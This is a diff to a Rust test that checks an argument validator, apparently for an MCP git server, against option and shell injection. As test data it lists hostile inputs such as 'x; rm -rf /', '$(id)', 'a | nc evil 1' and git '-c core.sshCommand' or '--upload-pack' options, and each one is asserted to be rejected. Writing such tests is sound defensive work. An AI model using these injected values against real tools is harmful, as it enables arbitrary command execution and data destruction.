@@ -197,6 +197,12 @@ fn argv_injection() {
     // mcp-server-git: a "revision" that is really an option.
     assert_eq!(argv("--output=/tmp/pwned").unwrap_err().0, "value starts with `-` (option injection)");
     assert!(argv("-c core.sshCommand=touch /tmp/x").is_err());
+    // The same, behind a harmless first word, for a tool that splits on whitespace.
+    for v in ["main --output=/tmp/pwned", "HEAD\t-c x", "a\u{2003}--upload-pack=touch"] {
+        assert!(argv(v).unwrap_err().0.contains("option injection"), "{v}");
+    }
+    assert!(argv("a-b c-d e - f").is_err(), "a lone `-` is stdin for many tools");
+    assert!(argv("release notes 2-1").is_ok());
     for v in ["x; rm -rf /", "$(id)", "`id`", "a | nc evil 1", "a && b", "a\nb", "a > /etc/passwd", "${IFS}"] {
         assert!(argv(v).is_err(), "{v}");
     }
